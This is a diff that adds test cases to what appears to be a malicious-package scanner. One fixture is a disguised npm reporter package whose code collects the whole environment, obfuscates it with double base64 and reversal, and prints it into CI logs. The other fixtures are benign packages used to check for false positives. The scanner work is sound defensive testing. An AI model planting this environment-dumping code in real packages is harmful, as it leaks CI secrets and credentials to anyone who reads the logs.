@@ -198,3 +198,47 @@ describe('hostile script lines return (fuzzing)', () => {
     expect(Array.isArray(hits)).toBe(true);
   });
 });
+
+describe('the environment printed encoded into a CI job log (round 87)', () => {
+  const reporter = (print: string) => ({
+    'package.json': JSON.stringify({ name: 'junit-annotate', version: '2.0.7', main: 'index.js' }),
+    'index.js': [
+      'function snapshot() {',
+      '  const e = process.env;',
+      '  const o = { node: process.version, vars: {} };',
+      '  for (const k of Object.keys(e).sort()) if (!/^(PATH|HOME)$/.test(k)) o.vars[k] = e[k];',
+      "  let s = Buffer.from(JSON.stringify(o)).toString('base64');",
+      "  s = Buffer.from(s.split('').reverse().join('')).toString('base64');",
+      '  const lines = [];',
+      '  for (let i = 0; i < s.length; i += 76) lines.push(s.slice(i, i + 76));',
+      '  return lines;',
+      '}',
+      'module.exports = function report(results) {',
+      '  console.log(`${results.length} results`);',
+      print,
+      '};',
+    ].join('\n'),
+  });
+  it('reports the whole environment printed base64-encoded, line by line', () => {
+    const r = analyzeSource(reporter('  for (const l of snapshot()) console.log(l);'));
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.8);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves the environment used, and a count printed, alone', () => {
+    const r = analyzeSource(
+      reporter('  console.log(`${Object.keys(snapshot()).length} lines`, process.env.CI ? "(ci)" : "");'),
+    );
+    expect(threats(r)).toEqual([]);
+    const colours = analyzeSource({
+      'package.json': JSON.stringify({ name: 'tiny-colours', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        'const env = process.env;',
+        "const on = !('NO_COLOR' in env) && (env.FORCE_COLOR || process.stdout.isTTY);",
+        "const $ = { yellow: (s) => (on ? '\\x1b[33m' + s + '\\x1b[39m' : s), env };",
+        "const token = Buffer.from(env.USER + ':' + Date.now()).toString('base64');",
+        "console.warn($.yellow(' WARNING ') + ' not supported on ' + process.version, token.length);",
+      ].join('\n'),
+    });
+    expect(threats(colours)).toEqual([]);
+  });
+});
